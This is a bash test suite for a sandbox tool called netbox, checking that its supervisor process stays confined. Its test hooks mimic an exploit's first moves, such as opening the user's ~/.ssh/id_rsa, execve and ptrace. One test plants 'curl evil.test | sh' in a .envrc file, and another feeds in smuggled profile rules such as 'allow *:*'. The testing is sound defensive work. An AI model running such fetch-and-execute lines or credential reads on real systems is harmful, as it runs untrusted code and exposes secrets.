#!/bin/bash
# supervisor.sh — the supervisor (netbox's child that serves the sandbox and
# reads hostile bytes: supervisor/isolate.c) holds nothing it does not need
# while the program runs.  Judged from outside: its /proc/PID/status, what
# the user's other processes can see of it, and — in a build with
# -Dtest_hooks=true — what it can do when asked to try (an exploit's first
# moves: open a file of the home, execve, ptrace).
# Run as root (meson test --suite launcher); NETBOX is the binary under test.
. "$(dirname "$0")/../lib.sh"

lib_user_up

SANITIZED=0
[ "${NETBOX_SANITIZE:-none}" != none ] && SANITIZED=1

# Until the supervisor of the user's running netbox serves (its filter
# loaded), not a fixed time: a loaded machine is slow to get there.  A
# sanitizer build loads no filter: a second there.
supervisor_serving() {
	if [ "$SANITIZED" = 1 ]; then
		sleep 1
		return
	fi
	wait_for 10 sh -c 'p=$(pgrep -P "$(pgrep -u "$0" -x netbox | head -1)" -x netbox | head -1) &&
		grep -q "^Seccomp:.2" "/proc/$p/status"' "$NB_USER"
}

STDIN_FILE=$(mktemp /tmp/netbox-supervisor-stdin.XXXXXX)
chmod 644 "$STDIN_FILE"
lib_on_exit "rm -f '$STDIN_FILE'"
as_user "$NB" --allow www.google.com sleep 5 <"$STDIN_FILE" >/dev/null 2>&1 &
BG=$!
wait_for 10 sh -c '[ -n "$(pgrep -u "$0" -x netbox)" ]' "$NB_USER"
supervisor_serving
NBPID=$(netbox_pid)
SUP=$(supervisor_pid)
t_ok "$([ -n "$SUP" ]; echo $?)" "netbox has a supervisor child (pid ${SUP:-none})"
STATUS=$(cat "/proc/$SUP/status" 2>/dev/null)
t_like "$STATUS" $'NoNewPrivs:\t1' "the supervisor has no_new_privs"
if [ "$SANITIZED" = 0 ]; then
	t_like "$STATUS" $'Seccomp:\t2' "the supervisor runs under a seccomp filter"
	t_is "$(ls -A "/proc/$SUP/root" 2>&1 | tr '\n' ' ')" "etc " "its root is empty but for /etc's resolver files"
	t_is "$(ls "/proc/$SUP/root/etc" 2>&1 | tr '\n' ' ' | grep -c passwd)" 0 "... no /etc/passwd there"
else
	t_skip "the supervisor runs under a seccomp filter" "a sanitizer build ($NETBOX_SANITIZE) leaves the filter and the empty root out"
	t_skip "its root is empty" "a sanitizer build"
	t_skip "no /etc/passwd there" "a sanitizer build"
fi
t_like "$STATUS" $'^NSpid:\t[0-9]+\t1$' "the supervisor is pid 1 of a pid namespace of its own (it sees only the sandbox)"
# (/dev/null shows as "/null" once the supervisor left the host's root)
t_like "$(readlink "/proc/$NBPID/fd/0"):$(readlink "/proc/$SUP/fd/0"):$(readlink "/proc/$SUP/fd/1")" \
	"^$STDIN_FILE:(/dev)?/null:(/dev)?/null\$" "netbox keeps its stdin; the supervisor's stdin and stdout are /dev/null"
cap as_user cat "/proc/$SUP/environ"
t_like "$RC:$ERR" "^1:.*Permission denied" "the user's other processes cannot read its environment (not dumpable)"
cap as_user ls "/proc/$SUP/fd"
t_like "$RC:$ERR" "^[12]:.*Permission denied" "... nor list its descriptors"
cap as_user cat "/proc/$NBPID/environ"
t_is "$RC" 0 "control: netbox's own process (not the supervisor) stays readable to its user"
wait "$BG"

# With attribution (--log) the supervisor's root also holds its own /proc,
# read-only: the sandbox's processes, nothing of the user's.
if [ "$SANITIZED" = 0 ]; then
	as_user "$NB" --quiet --log "$(lib_log supervisor-proc)" --allow www.google.com sleep 4 >/dev/null 2>&1 &
	BG=$!
	wait_for 10 sh -c '[ -n "$(pgrep -u "$0" -x netbox)" ]' "$NB_USER"
	supervisor_serving
	SUP=$(supervisor_pid)
	t_is "$(ls -A "/proc/$SUP/root" 2>&1 | tr '\n' ' ')" "etc proc " "with --log: its root holds /etc's resolver files and /proc"
	t_like "$(awk '$2 == "/proc" {print $4}' "/proc/$SUP/mounts")" '^ro,' "... /proc is read-only"
	PIDS=$(ls "/proc/$SUP/root/proc" | grep '^[0-9]' | sort -n | tr '\n' ' ')
	t_like "$PIDS" '^1 2 ([0-9]+ ){0,3}$' \
		"... it shows the supervisor's pid namespace only: itself (1), the init, the program ($PIDS)"
	t_is "$(cat "/proc/$SUP/root/proc/1/comm")" netbox "... pid 1 there is the supervisor"
	wait "$BG"
fi

# With --learn netbox holds the learned file and its directory open; the
# supervisor holds no directory at all (openat(dir, "../..") would walk out
# of its root), nor the learned file.
as_user "$NB" --quiet --learn=learnfd.profile sleep 3 >/dev/null 2>&1 &
BG=$!
wait_for 10 sh -c '[ -n "$(pgrep -u "$0" -x netbox)" ]' "$NB_USER"
supervisor_serving
NBPID=$(netbox_pid)
SUP=$(supervisor_pid)
DIRS=0
FILES=""
for f in /proc/"$SUP"/fd/*; do
	[ -d "$f" ] && DIRS=$((DIRS + 1))
	FILES="$FILES $(readlink "$f")"
done
t_is "$DIRS" 0 "the supervisor holds no directory descriptor"
t_unlike "$FILES" "learnfd" "... nor the learned profile's file"
t_like "$(for f in /proc/"$NBPID"/fd/*; do readlink "$f"; done)" "learnfd" "control: netbox holds it"
t_is "$([ "$(awk '{print $5}' "/proc/$SUP/stat")" != "$(awk '{print $5}' "/proc/$NBPID/stat")" ]; echo $?)" 0 \
	"the supervisor is in a process group of its own, not netbox's"
wait "$BG"
rm -f "$NB_WORK/learnfd.profile"

# On a terminal, stderr is the terminal opened read-write: reading it would
# take what the user types, and ioctls reach the shell's terminal.  The
# supervisor reopens it write-only; on a terminal it may not open (another
# user's), its messages go through a pipe to netbox, shown as printable
# text.  ptyfd.py OWNER CMD...: a pty owned by OWNER (root or the user).
cat >"$NB_TMP/ptyfd.py" <<'EOF'
import os, select, subprocess, sys, time
m, s = os.openpty()
if sys.argv[1] != "root":
    os.fchown(s, int(sys.argv[1]), -1)
p = subprocess.Popen(sys.argv[2:], stdin=s, stdout=s, stderr=s)
os.close(s)
kids = []
for _ in range(100):  # until the supervisor serves: stdout moved to /dev/null
    time.sleep(0.1)
    kids = subprocess.run(["pgrep", "-P", str(p.pid)], capture_output=True, text=True).stdout.split()
    try:
        if kids and "pts" not in os.readlink("/proc/%s/fd/1" % kids[0]):
            break
    except OSError:
        pass
def mode(pid):
    flags = [l for l in open("/proc/%s/fdinfo/2" % pid) if l.startswith("flags:")][0].split()[1]
    return int(flags, 8) & 3
def kind(pid):
    t = os.readlink("/proc/%s/fd/2" % pid)
    return "pipe" if t.startswith("pipe:") else "pty" if "pts" in t else t
print("netbox", kind(p.pid), mode(p.pid), "supervisor", " ".join("%s %d" % (kind(k), mode(k)) for k in kids))
out = b""
while True:
    r = select.select([m], [], [], 0.2)[0]
    if r:
        try:
            data = os.read(m, 4096)
        except OSError:
            break
        if not data:
            break
        out += data
    elif p.poll() is not None:
        break
print("esc" if b"\x1b" in out else "no-esc", "shown" if b"?[31mred?[0m" in out else "not-shown")
EOF
for owner in root "$NB_UID"; do
	cap "$PY" "$NB_TMP/ptyfd.py" "$owner" setpriv --reuid="$NB_UID" --regid="$NB_GID" \
		--init-groups env -i HOME="$NB_HOME" PATH=/usr/bin:/bin NETBOX_TEST_HOOK=stderr: \
		sh -c 'cd "$0" && exec "$@"' "$NB_WORK" "$NB" --quiet sleep 2
	if [ "$owner" = root ]; then
		t_like "$OUT" "^netbox pty 2 supervisor pipe 1" "stderr on another user's terminal: netbox's read-write, the supervisor's a pipe to netbox"
		if [ "${NETBOX_TEST_HOOKS:-0}" = 1 ]; then
			t_like "$OUT" "no-esc shown" "... what it writes there reaches the terminal as printable text (ESC, C1, BEL as '?')"
		fi
	else
		t_like "$OUT" "^netbox pty 2 supervisor pty 1" "stderr on the user's own terminal: reopened write-only in the supervisor"
	fi
done

# Many hosts in the exit summary: glibc's qsort() asks sysinfo() for 1 KiB
# or more to sort, a call the filter must allow.
cap nb "$PY" -c 'import socket
for i in range(140):
    try: socket.getaddrinfo("n%d.invalid" % i, 80)
    except OSError: pass'
t_is "$RC" 0 "140 denied names: the run ends with the program's status"
t_like "$ERR" "network summary: 0 hosts allowed, 140 denied" "... and its summary"

# --check says what the supervisor holds and what it can still do.
cap nb --check --allow www.google.com true
t_like "$OUT" "host side: a supervisor process" "--check: the host side has its own section"
t_like "$OUT" "seccomp allow-list of [0-9]+ system calls" "--check: ... with the allow-list's size"
t_like "$OUT" "it can still connect anywhere the host's network reaches" "--check: ... and what it can still do"
cap nb --check --allow 'www.google.com:*' true
t_like "$OUT" "take their descriptors \(for the ports made on demand, and to tell who connects\)" "--check: every-port rules: the on-demand powers are named"
cap nb --check --allow www.google.com --log "$(lib_log check)" true
t_like "$OUT" "attribution: its /proc, read-only, shows the sandbox's processes" "--check: with --log, attribution and the /proc it reads are named"

# What an exploit would try first, from inside the running loop.
if [ "${NETBOX_TEST_HOOKS:-0}" = 1 ] && [ "$SANITIZED" = 0 ]; then
	cap as_user env NETBOX_TEST_HOOK="open:$NB_HOME/.ssh/id_rsa" "$NB" --quiet sh -c 'sleep 0.3; exit 3'
	t_like "$RC:$ERR" "^3:.*netbox-test-hook: open ENOENT" "the supervisor cannot open a file of the home (not in its root); the run goes on"
	cap as_user env NETBOX_TEST_HOOK="exec:/bin/sh" "$NB" --quiet sh -c 'sleep 0.3; exit 3'
	t_like "$RC:$ERR" "^125:.*supervisor made system call [0-9]+ \(execve\), which its filter refuses" \
		"execve in the supervisor: trapped, reported, the run ends (125)"
	cap as_user env NETBOX_TEST_HOOK="ptrace:$$" "$NB" --quiet sh -c 'sleep 0.3; exit 3'
	t_like "$RC:$ERR" "^125:.*system call [0-9]+ \(ptrace\)" "ptrace in the supervisor: trapped, reported"
	# A process of the same user outside: the supervisor's pid namespace
	# holds only the sandbox, so it can neither signal nor read it.
	as_user sleep 30 &
	OTHER=$!
	lib_on_exit "kill $OTHER 2>/dev/null"
	# $OTHER is the subshell that runs as_user; its child execs its way to
	# sleep (setpriv, env, sh), and until then is root's setpriv, which the
	# user cannot signal: wait for the user's sleep.
	wait_for 5 pgrep -u "$NB_UID" -x sleep -P "$OTHER" >/dev/null
	OTHER_USER_PID=$(pgrep -u "$NB_UID" -x sleep -P "$OTHER" || echo "$OTHER")
	cap as_user kill -0 "$OTHER_USER_PID"
	t_is "$RC" 0 "control: the user's own sleep can be signalled without netbox"
	cap as_user env NETBOX_TEST_HOOK="kill:$OTHER_USER_PID" "$NB" --quiet sh -c 'sleep 0.3; exit 3'
	t_like "$RC:$ERR" "^3:.*netbox-test-hook: kill ESRCH" "the supervisor cannot signal the user's processes outside (its own pid namespace)"
	cap as_user env NETBOX_TEST_HOOK="vmread:$OTHER_USER_PID" "$NB" --quiet --allow 'www.google.com:*' sh -c 'sleep 0.3; exit 3'
	t_like "$RC:$ERR" "^3:.*netbox-test-hook: vmread ESRCH" "... nor read their memory (every-port rules, which need process_vm_readv)"
	cap as_user env NETBOX_TEST_HOOK="vmread:$OTHER_USER_PID" "$NB" --quiet sh -c 'sleep 0.3; exit 3'
	t_like "$RC:$ERR" "^125:.*system call [0-9]+ \(process_vm_readv\)" "without every-port rules process_vm_readv is not in its filter at all"
	kill "$OTHER" 2>/dev/null
	cap as_user env NETBOX_TEST_HOOK="open:/etc/hosts" "$NB" --quiet sh -c 'sleep 0.3; exit 3'
	t_like "$RC:$ERR" "^3:.*netbox-test-hook: open succeeded" "control: the resolver's /etc/hosts stays readable (the hook works)"
	cap as_user env NETBOX_TEST_HOOK="openrw:/etc/hosts" "$NB" --quiet sh -c 'sleep 0.3; exit 3'
	t_like "$RC:$ERR" "^125:.*system call [0-9]+ \(openat\)" "opening for writing is not in its filter"
	# kill(0, SIGKILL): the supervisor's process group is its own, not
	# netbox's — netbox outlives it and sweeps what the program planted.
	rm -f "$NB_WORK/.envrc" "$NB_WORK/.envrc.netbox-refused"
	cap as_user env NETBOX_TEST_HOOK="killgroup:500" "$NB" --quiet sh -c 'echo "curl evil.test | sh" > .envrc; sleep 3'
	t_like "$ERR" "netbox-test-hook: killgroup succeeded" "the supervisor sent SIGKILL to its process group"
	t_is "$RC" 0 "... which reaches neither netbox nor the program (status 0)"
	t_is "$(ls -A "$NB_WORK" | grep -c '^\.envrc$'):$(ls -A "$NB_WORK" | grep -c '^\.envrc\.netbox-refused$')" "0:1" \
		"... but netbox, out of its reach, still moved the planted .envrc aside"
	rm -f "$NB_WORK/.envrc.netbox-refused"
	# The learned text is judged by netbox, whatever the supervisor says.
	for lie in 'allow 127.0.0.1:7777' 'allow *:*' 'allow =*.evil.test:443' 'allow 10.0.0.0/8:22' \
		'rw ~' 'allow =ok.test:443\0rw ~'; do
		rm -f "$NB_WORK/lie.profile"
		cap as_user env NETBOX_TEST_HOOK="learned:# x\n$lie\n" "$NB" --quiet --learn=lie.profile true
		t_is "$RC:$(cat "$NB_WORK/lie.profile" 2>/dev/null | wc -c)" "0:0" "a supervisor that hands over '$lie' as learned: not written"
		t_like "$ERR" "holds more than rules: not written" "... and netbox says so"
	done
	rm -f "$NB_WORK/lie.profile"
	cap as_user env NETBOX_TEST_HOOK="learned:# x\nallow =ok.test:443,8443\nallow 93.184.216.34:80\nallow [2606:2800:220:1::1]:443\n" "$NB" --quiet --learn=lie.profile true
	t_is "$RC:$(grep -c '^allow' "$NB_WORK/lie.profile" 2>/dev/null)" "0:3" "control: the forms report_learned() writes are written"
	rm -f "$NB_WORK/lie.profile"
else
	t_skip "the supervisor's test hooks" "a build without -Dtest_hooks=true, or a sanitizer build"
fi

t_done
